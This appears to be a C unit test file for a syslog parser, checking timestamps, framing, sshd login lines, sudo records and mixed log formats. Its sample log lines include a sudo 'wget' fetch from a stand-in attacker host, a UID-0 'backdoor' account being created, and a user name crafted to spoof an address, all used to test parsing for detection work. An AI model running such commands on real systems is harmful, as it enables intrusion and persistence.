/* SPDX-License-Identifier: Apache-2.0
 *
 * test_syslog.c - the envelopes and the login sentences inside them.
 */
#include "records.h"

#define CONTEXT "2026-01-02T00:00:00Z"

static records *read_lines(const char *lines)
{
    records *r = records_of(hmi_text_bytes(hmi_text_of(lines)), records_us(CONTEXT));
    CHECK_EQ(r->code, HM_OK);
    CHECK(records_won(r, "syslog"));
    return r;
}

TEST(rfc_3164_and_its_relatives)
{
    static const struct {
        const char *line, *time, *host;
        int trust;
    } rows[] = {
        { "Oct  7 13:55:36 web01.example.net sshd[12]: x", "2025-10-07T13:55:36Z",
          "web01.example.net", HMI_TIME_ZONE_ASSUMED | HMI_TIME_YEAR_ASSUMED },
        { "<34>Oct 17 13:55:36 192.0.2.4 su: x", "2025-10-17T13:55:36Z", "192.0.2.4",
          HMI_TIME_ZONE_ASSUMED | HMI_TIME_YEAR_ASSUMED },
        { "Jan  1 00:00:01 web01.example.net su: x", "2026-01-01T00:00:01Z", "web01.example.net",
          HMI_TIME_ZONE_ASSUMED | HMI_TIME_YEAR_ASSUMED },
        { "Dec 31 23:59:59 web01.example.net su: x", "2025-12-31T23:59:59Z", "web01.example.net",
          HMI_TIME_ZONE_ASSUMED | HMI_TIME_YEAR_ASSUMED },
        { "Oct  7 13:55:36 sshd[12]: no host", "2025-10-07T13:55:36Z", "",
          HMI_TIME_ZONE_ASSUMED | HMI_TIME_YEAR_ASSUMED },
        { "Oct  7 2019 13:55:36 fw.example.net : %ASA-6-1: x", "2019-10-07T13:55:36Z",
          "fw.example.net", HMI_TIME_ZONE_ASSUMED },
        { "2025-10-07T13:55:36.123456+02:00 web01.example.net sshd[12]: x",
          "2025-10-07T11:55:36.123456Z", "web01.example.net", HMI_TIME_EXACT },
    };
    for (size_t i = 0; i < HMI_COUNT(rows); i++) {
        records *r = read_lines(rows[i].line);
        CHECK_EQ(r->count, 1);
        CHECK_EQ(r->events[0].time.us, records_us(rows[i].time));
        CHECK_EQ(r->events[0].time.trust, rows[i].trust);
        hm_text host = field_of(&r->events[0], HMI_DOMAIN, HMI_ROLE_HOST, 0);
        CHECK_TEXT(host.len ? host : field_of(&r->events[0], HMI_ADDRESS, HMI_ROLE_HOST, 0),
                   rows[i].host);
        records_free(r);
    }
}

TEST(without_context_a_year_less_time_is_unknown)
{
    records *r = records_of(HM_BYTES("Oct  7 13:55:36 web01 sshd[12]: x\n"), HMI_TIME_NONE);
    CHECK_EQ(r->count, 1);
    CHECK(r->events[0].time.us == HMI_TIME_NONE);
    records_free(r);
}

TEST(rfc_5424_with_structured_data_and_mark)
{
    records *r = read_lines("<165>1 2003-10-11T22:14:15.003Z host.example.com sshd 77 ID47 "
                            "[ex@1 a=\"x\\\"]\\\\\" b=\"192.0.2.8\"][two] \xef\xbb\xbf"
                            "Invalid user bob from 192.0.2.9 port 4711\n"
                            "<165>1 - - - - - -\n");
    CHECK_EQ(r->count, 2);
    const hmi_event *e = &r->events[0];
    CHECK_EQ(e->time.us, records_us("2003-10-11T22:14:15.003Z"));
    CHECK_TEXT(field_of(e, HMI_DOMAIN, HMI_ROLE_HOST, 0), "host.example.com");
    CHECK_TEXT(field_of(e, HMI_CLASS_NONE, HMI_ROLE_CONTENT, 1), "192.0.2.8");
    CHECK_TEXT(field_of(e, HMI_ADDRESS, HMI_ROLE_CLIENT, 0), "192.0.2.9");
    CHECK_TEXT(field_of(e, HMI_ACCOUNT, HMI_ROLE_USER, 0), "bob");
    CHECK_EQ(r->events[1].field_count, 0);
    records_free(r);
}

TEST(octet_counts_frame_messages_with_line_feeds)
{
    /* 46 octets with a line feed inside, the next frame at once behind it */
    static const char framed[] = "46 <34>1 2025-10-07T13:55:36Z h a - - - line\nfeed"
                                 "40 <34>1 2025-10-07T13:55:37Z h a - - - two\n"
                                 "41 <34>1 2025-10-07T13:55:38Z h a - - - last";
    records *r = read_lines(framed);
    CHECK_EQ(r->count, 3);
    CHECK_TEXT(field_of(&r->events[0], HMI_CLASS_NONE, HMI_ROLE_CONTENT, 0), "line\nfeed");
    CHECK_TEXT(field_of(&r->events[1], HMI_CLASS_NONE, HMI_ROLE_CONTENT, 0), "two");
    CHECK_TEXT(field_of(&r->events[2], HMI_CLASS_NONE, HMI_ROLE_CONTENT, 0), "last");
    CHECK_EQ(r->sums.skipped, 0);
    records_free(r);
}

TEST(a_wrong_octet_count_costs_nothing_behind_it)
{
    records *r = read_lines("999999 <34>1 2025-10-07T13:55:36Z h a - - - one\n"
                            "<34>1 2025-10-07T13:55:37Z h a - - - two\n");
    CHECK_EQ(r->count, 1);
    CHECK_EQ(r->sums.skipped, 1);
    CHECK_TEXT(field_of(&r->events[0], HMI_CLASS_NONE, HMI_ROLE_CONTENT, 0), "two");
    records_free(r);
}

TEST(logins)
{
    static const struct {
        const char *message, *client, *user;
        hmi_outcome outcome;
    } rows[] = {
        { "sshd[1]: Failed password for root from 192.0.2.1 port 22 ssh2", "192.0.2.1", "root",
          HMI_OUTCOME_FAILURE },
        { "sshd[1]: Failed password for invalid user a b from 2001:db8::1 port 22 ssh2",
          "2001:db8::1", "a b", HMI_OUTCOME_FAILURE },
        { "sshd-session[1]: Accepted publickey for eve from 192.0.2.1 port 9 ssh2: RSA SHA256:AbC",
          "192.0.2.1", "eve", HMI_OUTCOME_SUCCESS },
        { "sshd[1]: Invalid user  from 192.0.2.1 port 9", "192.0.2.1", "", HMI_OUTCOME_FAILURE },
        { "sshd[1]: Connection closed by authenticating user root 192.0.2.1 port 9 [preauth]",
          "192.0.2.1", "root", HMI_OUTCOME_UNKNOWN },
        { "sshd[1]: Connection closed by 192.0.2.1 port 9 [preauth]", "192.0.2.1", "",
          HMI_OUTCOME_UNKNOWN },
        { "sshd[1]: Disconnected from user bob 192.0.2.1 port 9", "192.0.2.1", "bob",
          HMI_OUTCOME_UNKNOWN },
        { "sshd[1]: Received disconnect from 192.0.2.1: 11: Bye Bye [preauth]", "192.0.2.1", "",
          HMI_OUTCOME_UNKNOWN },
        { "sshd[1]: Received disconnect from 192.0.2.1 port 9:11: Bye", "192.0.2.1", "",
          HMI_OUTCOME_UNKNOWN },
        { "sshd[1]: Did not receive identification string from 192.0.2.1 port 9", "192.0.2.1", "",
          HMI_OUTCOME_UNKNOWN },
        { "sshd[1]: User mallory from 192.0.2.1 not allowed because not listed in AllowUsers",
          "192.0.2.1", "mallory", HMI_OUTCOME_FAILURE },
        { "sshd[1]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
          "ruser= rhost=192.0.2.1  user=root",
          "192.0.2.1", "root", HMI_OUTCOME_FAILURE },
        { "login: pam_unix(login:session): session opened for user root(uid=0) by LOGIN(uid=0)", "",
          "root", HMI_OUTCOME_SUCCESS },
        { "useradd[1]: new user: name=backdoor, UID=0, GID=0", "", "backdoor",
          HMI_OUTCOME_SUCCESS },
    };
    for (size_t i = 0; i < HMI_COUNT(rows); i++) {
        char line[512];
        snprintf(line, sizeof(line), "Oct  7 13:55:36 web01.example.net %s\n", rows[i].message);
        records *r = read_lines(line);
        const hmi_event *e = &r->events[0];
        CHECK_EQ(e->kind, HMI_EVENT_LOGIN);
        CHECK_EQ(e->outcome, rows[i].outcome);
        CHECK_TEXT(field_of(e, HMI_ADDRESS, HMI_ROLE_CLIENT, 0), rows[i].client);
        CHECK_TEXT(field_of(e, HMI_ACCOUNT, HMI_ROLE_USER, 0), rows[i].user);
        records_free(r);
    }
}

TEST(a_user_name_that_pretends_to_be_an_address)
{
    records *r = read_lines("Oct  7 13:55:36 h sshd[1]: Failed password for invalid user root from "
                            "198.51.100.66 port 22 ssh2 from 192.0.2.1 port 9 ssh2\n");
    const hmi_event *e = &r->events[0];
    CHECK_TEXT(field_of(e, HMI_ADDRESS, HMI_ROLE_CLIENT, 0), "192.0.2.1");
    CHECK_EQ(field_of(e, HMI_ADDRESS, HMI_ROLE_CLIENT, 1).len, 0);
    CHECK_TEXT(field_of(e, HMI_ACCOUNT, HMI_ROLE_USER, 0), "root from 198.51.100.66 port 22 ssh2");
    records_free(r);
}

TEST(repeats_count)
{
    static const char lines[] =
        "Oct  7 13:55:36 h sshd[1]: Failed password for root from 198.51.100.9 port 22 ssh2\n"
        "Oct  7 13:55:37 h sshd[1]: message repeated 4 times: [ Failed password for root from "
        "198.51.100.9 port 22 ssh2]\n";
    collector got;
    hm_err err = { 0 };
    CHECK_OK(records_collect(&got, HM_BYTES(lines), &err));
    const hmi_trait *client = collect_find(&got, HMI_ADDRESS, HMI_ROLE_CLIENT, "198.51.100.9");
    assert_non_null(client);
    CHECK_EQ(client->count, 5);
    collect_fini(&got);
}

TEST(sudo_tells_who_and_what)
{
    records *r =
        read_lines("Oct  7 13:55:36 h sudo:     bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; "
                   "COMMAND=/usr/bin/wget http://evil.example.net/x\n");
    const hmi_event *e = &r->events[0];
    CHECK_TEXT(field_of(e, HMI_ACCOUNT, HMI_ROLE_USER, 0), "bob");
    CHECK_TEXT(field_of(e, HMI_COMMAND_LINE, HMI_ROLE_USER, 0),
               "/usr/bin/wget http://evil.example.net/x");
    records_free(r);
}

TEST(an_access_record_inside_syslog_is_read)
{
    records *r =
        read_lines("Oct  7 13:55:36 lb.example.net nginx: 192.0.2.7 - - "
                   "[10/Oct/2025:13:55:36 +0200] \"GET /a HTTP/1.0\" 200 23 \"-\" \"curl\"\n");
    const hmi_event *e = &r->events[0];
    CHECK_EQ(e->kind, HMI_EVENT_REQUEST);
    CHECK_TEXT(field_of(e, HMI_ADDRESS, HMI_ROLE_CLIENT, 0), "192.0.2.7");
    CHECK_TEXT(field_of(e, HMI_DOMAIN, HMI_ROLE_HOST, 0), "lb.example.net");
    records_free(r);
}

TEST(mixed_lines_each_stand_for_themselves)
{
    static const char lines[] =
        "Oct  7 13:55:36 h.example.net kernel: boot\n"
        "192.0.2.7 - - [10/Oct/2025:13:55:36 +0200] \"GET /a HTTP/1.0\" 200 23\n"
        "Traceback (most recent call last):\n"
        "    File \"x.py\"\n"
        "\n"
        "<34>1 2025-10-07T13:55:36Z h a - - - x\n";
    records *r = records_of(HM_BYTES(lines), records_us(CONTEXT));
    CHECK_EQ(r->count, 3);
    CHECK_EQ(r->sums.skipped, 1);
    CHECK_EQ(r->sums.continued, 1);
    CHECK(records_won(r, "combined"));
    CHECK(records_won(r, "syslog"));
    records_free(r);
}

TEST(every_prefix_and_every_flipped_bit_gets_an_answer)
{
    records_sweep(HM_BYTES("<34>Oct  7 13:55:36 h sshd[12]: message repeated 4 times: [ Failed "
                           "password for x from 192.0.2.1 port 22 ssh2]\n"
                           "90 <165>1 2003-10-11T22:14:15.003Z h a 1 2 [e@1 a=\"\\\"]\" b=\"c\"] "
                           "\xef\xbb\xbf"
                           "pam_unix(a:b): authentication failure; rhost=::1  user=r\n"
                           "2025-10-07T13:55:36+02:00 h sudo: b : TTY=p ; COMMAND=/x\n"));
}

RUN_TESTS()
